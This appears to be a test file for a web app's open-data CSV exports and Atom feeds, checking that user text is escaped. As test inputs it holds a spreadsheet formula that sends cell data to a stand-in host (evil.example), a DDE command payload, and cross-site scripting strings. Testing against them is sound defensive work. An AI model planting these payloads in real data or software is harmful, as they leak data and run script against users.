import Papa from 'papaparse';
import request from 'supertest';
import { createDataUse, createNeighbourhood, createPerson, createProposal, PUBLISHABLE_DATA_USE, SUBMITTABLE_PROPOSAL, type TestPerson } from './fixtures';
import { startTestApp, type TestApp } from './test-app';

/**
 * Files other programs read — CSV opened in a spreadsheet, Atom feeds shown by
 * a feed reader — carry what people typed as inert text: no formula runs, no
 * markup renders.
 */

const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez")';
const HTML = '<script>alert(1)</script> <img src=x onerror=alert(1)> <a href="javascript:alert(1)">ici</a> [lien](javascript:alert(1))';

/** Every line of every cell that a spreadsheet would run as a formula. */
function formulaLines(csv: string): string[] {
  const rows = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
  return rows.flat().flatMap((cell) => cell.split(/\r\n|\r|\n/)).filter((line) => /^[\t\r]|^\s*[=+\-@＝＋－＠]/.test(line));
}

/** The markup an Atom document's entries would render: elements inside titles or summaries, or script-bearing attributes. */
function liveMarkup(atom: string): string[] {
  const texts = [...atom.matchAll(/<(title|summary|content)[^>]*>([\s\S]*?)<\/\1>/g)].map((match) => match[2]!.replace(/^<!\[CDATA\[|\]\]>$/g, ''));
  return texts.filter((text) => /<\s*(script|img|a|iframe|svg)\b|\bon\w+\s*=|javascript:/i.test(text) && /</.test(text));
}

describe('Outputs other programs read', () => {
  let t: TestApp;
  let organizer: TestPerson;
  beforeAll(async () => {
    t = await startTestApp();
    organizer = await createPerson(t, { roles: ['resident', 'organizer'] });
    await createDataUse(t, {
      editor: organizer,
      content: { ...PUBLISHABLE_DATA_USE, title: FORMULA, summary: `Un résumé sur deux lignes.\n=cmd|' /C calc'!A0\n  @SUM(1+1)*cmd ${HTML}`, proportionality: '-2+3' },
    });
    // Proposal texts refuse HTML, not formulas nor Markdown links; decision reasons are free text.
    const { reference } = await createProposal(t, {
      state: 'submitted',
      content: { ...SUBMITTABLE_PROPOSAL, title: '+1 Interdire [la caméra](javascript:alert(1)) < > & "', body: `Première ligne.\n-1+1\n${FORMULA}\n[lien](javascript:alert(1))` },
    });
    await request(t.server).post(`/api/v1/proposals/${reference}/admissibility`).set(organizer.auth).send({ decision: 'inadmissible', reason: `${HTML}\n@SUM(A1)` }).expect(200);
  });
  afterAll(() => t.close());

  it.each(['data-uses', 'proposals'])('open data %s.csv runs no formula, multi-line cells included', async (name) => {
    const csv = (await request(t.server).get(`/api/v1/open-data/${name}.csv`).expect(200)).text;
    expect(csv).toContain('HYPERLINK');
    expect(formulaLines(csv)).toEqual([]);
  });

  it('the invitation codes CSV runs no formula', async () => {
    const neighbourhoodId = await createNeighbourhood(t, { slug: 'csv', name: '@Quartier' });
    const response = await request(t.server).post('/api/v1/verification/invitation-batches?format=csv').set(organizer.auth).send({ neighbourhoodId, count: 2, label: FORMULA }).expect(201);
    expect(response.text).toContain('HYPERLINK');
    expect(formulaLines(response.text)).toEqual([]);
  });

  it.each(['data-uses', 'proposals'])('the %s feed carries people’s text as text, never as markup', async (name) => {
    const atom = (await request(t.server).get(`/api/v1/open-data/${name}.atom`).expect(200)).text;
    expect(atom).toContain('alert(1)');
    expect(liveMarkup(atom)).toEqual([]);
    expect(atom).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
  });
});
